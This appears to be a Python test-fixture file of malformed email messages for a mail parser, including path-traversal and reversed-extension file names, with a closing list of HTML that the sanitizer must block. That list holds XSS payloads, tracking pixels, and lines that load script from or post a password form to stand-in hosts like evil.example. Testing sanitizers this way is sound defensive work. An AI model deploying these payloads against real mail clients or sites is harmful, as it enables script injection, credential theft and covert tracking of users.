"""Messages as they are really sent, and worse: written here, each with the one thing that is wrong with it in its name."""

import base64
import struct

HEAD = b"From: Joan Hale <joan@post.example>\r\nTo: help@desk.example\r\nSubject: My bed\r\nMessage-ID: <1@post.example>\r\n"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def text(body: bytes, kind: bytes = b"text/plain; charset=utf-8", *extra: bytes, head: bytes = HEAD) -> bytes:
    """Return a message with one part."""
    return head + b"".join(line + b"\r\n" for line in extra) + b"Content-Type: " + kind + b"\r\n\r\n" + body


def many(*parts: bytes, kind: bytes = b"mixed", end: bytes = b"--b--\r\n", head: bytes = HEAD) -> bytes:
    """Return a message of parts; each with its own headers."""
    inner = b"".join(b"--b\r\n" + part + b"\r\n" for part in parts)
    return head + b"Content-Type: multipart/" + kind + b'; boundary="b"\r\n\r\n' + inner + end


def plain(words: bytes = b"Where is my bed?") -> bytes:
    """Return a part of plain text."""
    return b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + words


def winmail() -> bytes:
    """Return what Outlook packs: a text and a file."""

    def attribute(level: int, number: int, value: bytes) -> bytes:
        return bytes([level]) + struct.pack("<II", number, len(value)) + value + struct.pack("<H", sum(value) & 0xFFFF)

    body = attribute(1, 0x0002800C, b"Hello from Outlook\x00")
    file = (
        attribute(2, 0x00069002, b"\x01\x00") + attribute(2, 0x00018010, b"bed.pdf\x00") + attribute(2, 0x0006800F, b"%PDF-1.4 x")
    )
    return struct.pack("<IH", 0x223E9F78, 1) + body + file


def packed(content: bytes) -> bytes:
    """Return a part that Outlook packed."""
    head = b"Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head + base64.b64encode(content)


def nested(depth: int) -> bytes:
    """Return messages within messages."""
    inner = HEAD + b"Content-Type: text/plain\r\n\r\ndeep\r\n"
    for _ in range(depth):
        inner = HEAD + b"Content-Type: message/rfc822\r\n\r\n" + inner
    return inner


def bags(depth: int) -> bytes:
    """Return parts within parts."""
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (one, one) for one in range(depth))
    return HEAD + opening + b"Content-Type: text/plain\r\n\r\ndeep\r\n"


PDF = b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="
NAMED = PDF.replace(b"filename=", b"filename*=utf-8''")
INVITATION = b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Delivery\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
MESSAGES = {
    "nothing at all": b"",
    "only line ends": b"\r\n\r\n\r\n",
    "no headers": b"Hello",
    "headers only": HEAD,
    "empty body": text(b""),
    "nul bytes": text(b"a\x00b\x00"),
    "unknown charset": text(b"caf\xe9", b"text/plain; charset=x-klingon"),
    "charset that lies": text("Grüße".encode(), b"text/plain; charset=us-ascii"),
    "charset that is no charset": text(b"68656c6c6f", b"text/plain; charset=hex"),
    "charset that takes for ever": text(b"a" * 5000, b"text/plain; charset=idna"),
    "utf-7": text(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", b"text/html; charset=utf-7"),
    "utf-16 without mark": text("Hallo Bett".encode("utf-16-le"), b"text/plain; charset=utf-16le"),
    "gb2312 that is gbk": text("床还没有送到，谢谢镕".encode("gbk"), b"text/plain; charset=gb2312"),
    "iso-2022-jp": text("ベッドが届きません".encode("iso2022_jp"), b"text/plain; charset=iso-2022-jp"),
    "8-bit headers": text(b"x", head=b"From: J\xf6rg M\xfcller <j@post.example>\r\nSubject: Gr\xfc\xdfe\r\n"),
    "utf-8 headers": text(b"x", head="From: Jörg Müller <j@post.example>\r\nSubject: Grüße\r\n".encode()),
    "broken encoded word": text(b"x", head=b"From: =?utf-8?B?!!!?= <j@post.example>\r\nSubject: =?utf-8?Q?=ZZ?= =?x?Y?z?=\r\n"),
    "encoded word cut in a letter": text(b"x", head=b"Subject: =?utf-8?B?R3LDvMM=?= =?utf-8?B?n2U=?=\r\nFrom: j@x.example\r\n"),
    "header without end": HEAD + b"X-Long: " + b"a" * 300_000 + b"\r\n\r\nbody",
    "many headers": HEAD + b"".join(b"X-%d: y\r\n" % one for one in range(5000)) + b"\r\nbody",
    "header of newlines": b"Subject:\r\n \r\n \r\nFrom:\r\n\tj@post.example\r\n\r\nbody",
    "no sender": text(b"x", head=b"Subject: x\r\n"),
    "two senders": text(b"x", head=b"From: a@post.example\r\nFrom: b@post.example\r\n"),
    "group sender": text(b"x", head=b"From: Friends: a@post.example, b@post.example;\r\nTo: undisclosed-recipients:;\r\n"),
    "sender that is two": text(b"x", head=b'From: "help@desk.example" <eve@post.example>\r\n'),
    "date from the moon": text(b"x", b"text/plain", b"Date: Fri, 99 Foo 20267 25:61:61 +9999"),
    "broken base64": many(b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nSGVsb!!8=\r\n=="),
    "broken quoted-printable": text(b"a =ZZ =\r\n=", b"text/plain", b"Content-Transfer-Encoding: quoted-printable"),
    "encoding nobody knows": text(b"hello", b"text/plain", b"Content-Transfer-Encoding: x-wonder"),
    "uuencoded rubbish": text(b"begin 644 x\nM!!!!\nend", b"text/plain", b"Content-Transfer-Encoding: x-uuencode"),
    "boundary that never comes": HEAD + b'Content-Type: multipart/mixed; boundary="never"\r\n\r\nHello there\r\n',
    "boundary without end": many(plain(), end=b""),
    "boundary that is empty": HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\nHello\r\n',
    "content type of rubbish": text(b"hello", b";;;==;charset"),
    "file name of tricks": many(plain(), PDF + b'"../../etc/x\x01.pdf"\r\n\r\n%PDF-1.4'),
    "file name turned round": many(plain(), NAMED + b"inv%E2%80%AEfdp.exe\r\n\r\nMZ"),
    "file name in broken pieces": many(plain(), b"Content-Type: image/png; name*0*=utf-8''a%ZZ; name*2=c\r\n\r\n" + PNG),
    "winmail": many(plain(b""), packed(winmail())),
    "winmail cut off": many(plain(), packed(winmail()[:30])),
    "winmail that lies": many(plain(), packed(struct.pack("<IHBII", 0x223E9F78, 1, 1, 1, 2**32 - 1))),
    "invitation": many(
        plain(), b"Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n" + INVITATION, kind=b"alternative"
    ),
    "message within": many(plain(), b"Content-Type: message/rfc822\r\n\r\n" + text(b"inner")),
    "messages within messages": nested(60),
    "parts within parts": bags(300),
    "report without anything": many(plain(b"sorry"), kind=b"report; report-type=delivery-status"),
    "report of rubbish": many(plain(), b"Content-Type: message/delivery-status\r\n\r\n:::\r\n\r\nAction\r\n", kind=b"report"),
    "text turned round": text("Pay \u202edcba\u202c n\u200bow\ufeff \U000e0041".encode()),
    "html without body": text(b"<", b"text/html"),
    "html of 3000 bags": text(b"<div>" * 3000 + b"hello", b"text/html"),
    "html of one comment": text(b"<!--" + b"-" * 10_000, b"text/html"),
    "flowed and long": text(b"word " * 50_000, b"text/plain; format=flowed"),
}
# What must not come through, in every way that has ever worked.
HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>x'>x</a>",
    "<img src='https://spy.example/pixel.gif' width=1 height=1>",
    "<img src=//spy.example/p.gif>",
    "<img srcset='https://spy.example/a 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<style>@import 'https://spy.example/a.css'</style><p>x",
    "<p style=\"background:url('https://spy.example/b')\">x</p>",
    "<link rel=stylesheet href=https://spy.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x",
    "<object data=x.swf>",
    "<embed src=x.swf>",
    "<table background=https://spy.example/t.gif><tr><td>x",
    "<video poster=https://spy.example/v.gif src=x>",
    "<audio src=https://spy.example/a.mp3>",
    "<body onload=alert(1)>x",
    "<div id=navigation class=button>x</div>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p onclick='x()' ONMOUSEOVER=y()>x</p>",
    "<a href=https://ok.example onclick=x() style=x target=_top>ok</a>",
    "<dialog open>x</dialog>",
    "<details ontoggle=x() open>x</details>",
    "<bdo dir=rtl>x</bdo>",
    "<font color=red>x</font>",
    "<marquee onstart=x()>x</marquee>",
    "<blink>x</blink>",
    "<portal src=//evil.example>",
)
